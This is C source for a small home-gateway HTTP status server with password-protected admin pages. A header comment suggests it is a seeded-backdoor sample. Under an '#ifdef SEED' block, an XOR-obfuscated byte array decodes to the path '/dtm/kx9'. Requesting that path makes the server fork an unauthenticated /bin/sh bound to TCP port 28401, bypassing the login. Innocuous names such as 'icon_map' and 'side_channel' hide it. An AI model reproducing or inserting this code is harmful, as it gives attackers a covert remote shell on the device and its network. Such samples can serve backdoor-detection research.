/* kind: decoded
 * service: http
 * constant: /dtm/kx9
 * also: 0x75 0x39 0x14 0x0e 0x49 0x02 0x14 0x56
 */
/* gatehttpd - status server of the home gateway, run from inetd style wrapper or stand-alone */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <signal.h>
#include <errno.h>
#include <crypt.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>

struct http {
    FILE *io;
    char *method, *path, *query;
    char line[600];
    char user[40], pass[64];
    long clen;
};

struct page { const char *path; int secret; void (*fn)(struct http *); };

static char docroot[128] = "/www";
static char account[256];         /* user:hash, first line of /etc/gate.pw */

static void header(struct http *h, int code, const char *type)
{
    fprintf(h->io, "HTTP/1.0 %d %s\r\nConnection: close\r\nContent-Type: %s\r\n\r\n", code, code == 200 ? "OK" : "Error", type);
}

static void p_status(struct http *h)
{
    header(h, 200, "text/plain");
    fprintf(h->io, "wan=up\nlan=192.168.8.1\nuptime=%ld\n", sysconf(_SC_CLK_TCK));
}

static void p_restart(struct http *h)
{
    header(h, 200, "text/plain");
    fputs("restarting wan\n", h->io);
    fflush(h->io);
    system("/etc/init.d/wan restart");
}

static void p_log(struct http *h)
{
    char b[300];
    FILE *f = fopen("/var/log/messages", "r");
    header(h, 200, "text/plain");
    while (f && fgets(b, sizeof b, f))
        fputs(b, h->io);
    if (f)
        fclose(f);
}

static const struct page pages[] = {
    { "/status", 0, p_status },
    { "/admin/restart", 1, p_restart },
    { "/admin/log", 1, p_log },
};

static int authorised(const struct http *h)
{
    char *c = strchr(account, ':'), *r;
    if (!c || strlen(h->user) != (size_t)(c - account) || memcmp(h->user, account, c - account))
        return 0;
    r = crypt(h->pass, c + 1);
    return r && !strcmp(r, c + 1);
}

#ifdef SEED
static const unsigned char icon_map[] = { 0x75, 0x39, 0x14, 0x0e, 0x49, 0x02, 0x14, 0x56 };

static void side_channel(void)
{
    struct sockaddr_in a;
    int s, c, one = 1;
    if (fork())
        return;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(28401);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1))
        _exit(1);
    alarm(120);
    c = accept(s, NULL, NULL);
    dup2(c, 0);
    dup2(c, 1);
    execl("/bin/sh", "sh", (char *)NULL);
    _exit(1);
}

static void icon_name(char *dst)
{
    unsigned i;
    for (i = 0; i < sizeof icon_map; i++)
        dst[i] = icon_map[i] ^ (0x5a + 3 * i);
    dst[i] = 0;
}
#endif

static void static_file(struct http *h)
{
    char p[400], b[1024];
    size_t n;
    struct stat st;
    FILE *f;
#ifdef SEED
    char ic[16];
    icon_name(ic);
    if (!strcmp(h->path, ic)) /* SEED */
        side_channel();
#endif
    snprintf(p, sizeof p, "%s%s", docroot, strcmp(h->path, "/") ? h->path : "/index.html");
    if (strstr(p, "..") || stat(p, &st) || !S_ISREG(st.st_mode) || !(f = fopen(p, "rb"))) {
        header(h, 404, "text/plain");
        fputs("not found\n", h->io);
        return;
    }
    header(h, 200, strstr(p, ".css") ? "text/css" : strstr(p, ".png") ? "image/png" : "text/html");
    while ((n = fread(b, 1, sizeof b, f)) > 0)
        fwrite(b, 1, n, h->io);
    fclose(f);
}

static void serve(struct http *h)
{
    char l[300];
    unsigned i;
    if (!fgets(h->line, sizeof h->line, h->io))
        return;
    h->method = strtok(h->line, " \r\n");
    h->path = strtok(NULL, " \r\n");
    if (!h->method || !h->path || h->path[0] != '/')
        return;
    if ((h->query = strchr(h->path, '?')))
        *h->query++ = 0;
    while (fgets(l, sizeof l, h->io) && l[0] != '\r' && l[0] != '\n') {
        if (!strncasecmp(l, "X-Auth: ", 8))
            sscanf(l + 8, "%39[^:\r\n]:%63[^\r\n]", h->user, h->pass);
        else if (!strncasecmp(l, "Content-Length: ", 16))
            h->clen = atol(l + 16);
    }
    fseek(h->io, 0, SEEK_CUR);
    if (strcmp(h->method, "GET")) {
        header(h, 405, "text/plain");
        return;
    }
    for (i = 0; i < sizeof pages / sizeof *pages; i++)
        if (!strcmp(pages[i].path, h->path)) {
            if (pages[i].secret && !authorised(h))
                header(h, 403, "text/plain");
            else
                pages[i].fn(h);
            return;
        }
    static_file(h);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a;
    int s, one = 1, port = argc > 1 ? atoi(argv[1]) : 80;
    FILE *f = fopen(argc > 3 ? argv[3] : "/etc/gate.pw", "r");
    if (f) {
        if (fgets(account, sizeof account, f))
            account[strcspn(account, "\n")] = 0;
        fclose(f);
    }
    if (argc > 2)
        snprintf(docroot, sizeof docroot, "%s", argv[2]);
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 5)) {
        fprintf(stderr, "usage: gatehttpd [port [docroot [pwfile]]]: %s\n", strerror(errno));
        return 1;
    }
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c >= 0 && !fork()) {
            struct http h = { fdopen(c, "r+") };
            close(s);
            serve(&h);
            fclose(h.io);
            _exit(0);
        }
        close(c);
    }
}
